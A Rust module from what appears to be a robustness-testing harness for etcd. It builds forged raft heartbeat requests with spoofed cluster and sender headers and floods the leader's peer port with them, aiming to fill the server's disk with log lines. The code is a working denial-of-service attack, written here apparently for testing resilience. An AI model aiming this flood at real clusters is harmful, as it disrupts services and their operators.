//! Attacks at the peers' port by somebody who is no member.

use std::time::Duration;

use anyhow::Context as _;
use bytes::Bytes;
use futures::future::try_join_all;
use prost::Message as _;
use proto::{
    etcdserverpb::{StatusRequest, StatusResponse},
    raftpb,
};
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::TcpStream,
};

use super::STATUS;
use crate::{
    raw::{Connection, Windows},
    target::{Outcome, Target},
};

/// Messages a second, on how many connections, in how many pieces each.
const STRAY_A_SECOND: u32 = 5_000;
const STRAY_CONNECTIONS: u32 = 2;
const STRAY_PIECES: u32 = 20;

/// B14: heartbeats of no term, which no member sends. A server that writes a line for each has its disk filled by a stranger.
pub(crate) async fn stray_messages(target: Target) -> anyhow::Result<Outcome> {
    let client = Connection::open(target.leader(), Windows::WIDE).await?;
    let status: StatusResponse = client.ask(STATUS, &StatusRequest {}).await?;
    let header = status.header.context("no header")?;
    let piece = stray(header.cluster_id, header.member_id)
        .repeat((target.count(STRAY_A_SECOND) / STRAY_CONNECTIONS / STRAY_PIECES).max(1) as usize);
    let piece = Bytes::from(piece);
    let pause = Duration::from_secs(1) / STRAY_PIECES;
    let sending = (0..STRAY_CONNECTIONS).map(async |_| {
        let (mut answers, mut socket) = TcpStream::connect(target.peers[target.leader]).await?.into_split();
        let reading = tokio::spawn(async move {
            let mut buffer = vec![0; 64 << 10];
            while answers.read(&mut buffer).await.is_ok_and(|read| read > 0) {}
        });
        target.every(pause, async || Ok(socket.write_all(&piece).await?)).await?;
        reading.abort();
        anyhow::Ok(())
    });
    // A connection that is ended for it is an answer.
    let _ = try_join_all(sending).await;
    target.until_end().await;
    Ok(Outcome::quiet())
}

/// One request with one message, as members send them to each other.
fn stray(cluster: u64, to: u64) -> Vec<u8> {
    let kind = raftpb::MessageType::MsgHeartbeat as i32;
    let message = raftpb::Message {
        r#type: Some(kind),
        to: Some(to),
        from: Some(2),
        term: Some(0),
        ..Default::default()
    };
    let body = message.encode_to_vec();
    let head = format!(
        "POST /raft HTTP/1.1\r\nhost: peer\r\ncontent-type: application/protobuf\r\nx-etcd-cluster-id: {cluster:x}\r\n\
         x-server-from: 2\r\nx-server-version: 3.7.0\r\nx-min-cluster-version: 3.0.0\r\ncontent-length: {}\r\n\r\n",
        body.len()
    );
    [head.as_bytes(), &body].concat()
}
